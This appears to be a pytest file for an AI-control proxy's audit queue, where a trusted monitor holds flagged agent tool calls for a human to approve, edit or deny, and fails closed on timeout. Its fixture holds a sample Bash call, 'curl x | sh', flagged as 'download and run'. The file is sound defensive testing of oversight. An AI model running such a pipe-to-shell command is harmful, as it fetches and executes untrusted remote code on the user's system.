"""The audit-queue contract (create, list, decide once, wait, time out, fail closed), run against
the in-process storage and Redis alike; across instances on Redis."""

from __future__ import annotations

import asyncio
import time
from typing import Any

import orjson
import pytest

from luthien_proxy.backends.audit import (
    AUDITS_CHANNEL,
    AlreadyDecided,
    AuditItem,
    AuditQueue,
    RedisAuditStorage,
    UnknownItem,
    item_channel,
)
from luthien_proxy.backends.audit.queue import ORPHAN_GRACE_SECONDS, ORPHANED, STOPPED
from luthien_proxy.backends.audit.redis_storage import item_key
from tests.conftest import OpenServices
from tests.support.waiting import eventually


def _item(wait_s: float = 60.0, **overrides: object) -> AuditItem:
    now = time.time()
    fields: dict[str, object] = {
        "call_id": "k:call",
        "trace_id": "k:trace",
        "key": "k",
        "protocol": "trusted_monitoring",
        "tool_call": {"id": "t1", "name": "Bash", "arguments": {"command": "curl x | sh"}},
        "score": 0.9,
        "reason": "download and run",
        "created_at": now,
        "deadline": now + wait_s,
        "conversation": [{"role": "user", "text": "install it"}],
    }
    return AuditItem(**{**fields, **overrides})  # type: ignore[arg-type]


async def _listening(audits: AuditQueue, channel: str) -> bool:
    """Whether someone subscribed to `channel` (Redis knows for every instance)."""
    client = getattr(audits.storage, "client", None)
    if client is None:
        return audits.bus.has_listeners((channel,))
    return dict(await client.pubsub_numsub(channel)).get(channel.encode(), 0) > 0


async def test_items_are_listed_decided_once_and_announced(open_services: OpenServices) -> None:
    services = await open_services()
    audits = services.audits
    async with services.bus.subscribe((AUDITS_CHANNEL,)) as news:
        first, second = await audits.create(_item()), await audits.create(_item(score=0.8))
        pending = [i.id for i in await audits.list("pending") if i.id in (first.id, second.id)]
        assert pending == [first.id, second.id]
        decided = await audits.decide(
            first.id, "edited", by="alice", comment="safer", arguments={"command": "ls"}
        )
        assert (decided.status, decided.decided_by, decided.comment) == ("edited", "alice", "safer")
        assert decided.edited_arguments == {"command": "ls"}
        assert decided.decided_at is not None and decided.public(time.time())["waited_s"] >= 0
        with pytest.raises(AlreadyDecided) as again:
            await audits.decide(first.id, "denied", by="bob")
        assert again.value.item.status == "edited" and again.value.item.decided_by == "alice"
        with pytest.raises(UnknownItem):
            await audits.decide("no-such-item", "approved", by="alice")
        assert first.id not in [i.id for i in await audits.list("pending")]
        assert first.id in [i.id for i in await audits.list("edited")]
        assert await audits.get(first.id) == decided
        assert await audits.get("no-such-item") is None
        await services.bus.flush()
        ours: list[dict[str, Any]] = []
        while len(ours) < 3:  # Redis may hold other runs' items (failed as orphans when listed)
            event = orjson.loads(await news.get(timeout=5) or b"{}")
            if event["item"]["id"] in (first.id, second.id):
                ours.append(event)
    assert [(k["type"], k["item"]["id"]) for k in ours] == [
        ("audit_created", first.id),
        ("audit_created", second.id),
        ("audit_decided", first.id),
    ]
    assert ours[2]["item"]["status"] == "edited"


async def test_concurrent_decisions_have_one_winner(open_services: OpenServices) -> None:
    audits = (await open_services()).audits
    item = await audits.create(_item())
    results = await asyncio.gather(
        *(audits.decide(item.id, "approved", by=f"p{n}") for n in range(5)), return_exceptions=True
    )
    winners = [r for r in results if isinstance(r, AuditItem)]
    assert len(winners) == 1
    assert all(
        isinstance(r, AlreadyDecided) and r.item.decided_by == winners[0].decided_by
        for r in results
        if r not in winners
    )


async def test_a_waiting_call_is_released_by_a_decision_before_or_during_its_wait(
    open_services: OpenServices,
) -> None:
    audits = (await open_services()).audits
    early = await audits.create(_item())
    await audits.decide(early.id, "denied", by="alice")
    assert (await audits.await_decision(early.id)).status == "denied"
    held = await audits.create(_item())
    waiter = asyncio.create_task(audits.await_decision(held.id))
    await audits.decide(held.id, "approved", by="bob")
    released = await asyncio.wait_for(waiter, 5)
    assert (released.status, released.decided_by) == ("approved", "bob")


async def test_the_deadline_times_an_item_out(open_services: OpenServices) -> None:
    audits = (await open_services()).audits
    item = await audits.create(_item(wait_s=0.3, on_timeout="approve"))
    timed_out = await asyncio.wait_for(audits.await_decision(item.id), 5)
    assert (timed_out.status, timed_out.decided_by, timed_out.on_timeout) == (
        "timed_out",
        "timeout",
        "approve",
    )
    with pytest.raises(AlreadyDecided):
        await audits.decide(item.id, "approved", by="late")


async def test_a_call_that_stops_waiting_fails_its_item_and_an_orphan_fails_when_read(
    open_services: OpenServices,
) -> None:
    audits = (await open_services()).audits
    item = await audits.create(_item())
    waiter = asyncio.create_task(audits.await_decision(item.id))
    await eventually(lambda: _listening(audits, item_channel(item.id)))
    waiter.cancel()
    with pytest.raises(asyncio.CancelledError):
        await waiter
    stopped = await audits.get(item.id)
    assert stopped is not None and (stopped.status, stopped.failure) == ("failed", STOPPED)
    past = time.time() - ORPHAN_GRACE_SECONDS - 1
    orphan = await audits.create(_item(created_at=past - 60, deadline=past))
    assert orphan.id in [i.id for i in await audits.list()]
    read = await audits.get(orphan.id)
    assert read is not None and (read.status, read.failure) == ("failed", ORPHANED)
    assert orphan.id not in [i.id for i in await audits.list("pending")]


@pytest.mark.parametrize("backend", ["server"], indirect=True)
async def test_redis_items_cross_instances_and_expire(open_services: OpenServices) -> None:
    one, two = await open_services(), await open_services()
    item = await one.audits.create(_item(wait_s=30))
    storage = one.audits.storage
    assert isinstance(storage, RedisAuditStorage)
    assert 30 < await storage.client.ttl(item_key(item.id)) <= 30 + one.audits.retention_seconds
    waiter = asyncio.create_task(one.audits.await_decision(item.id))
    assert item.id in [i.id for i in await two.audits.list("pending")]
    await two.audits.decide(item.id, "approved", by="carol", comment="fine")
    released = await asyncio.wait_for(waiter, 5)
    assert (released.status, released.decided_by, released.comment) == ("approved", "carol", "fine")
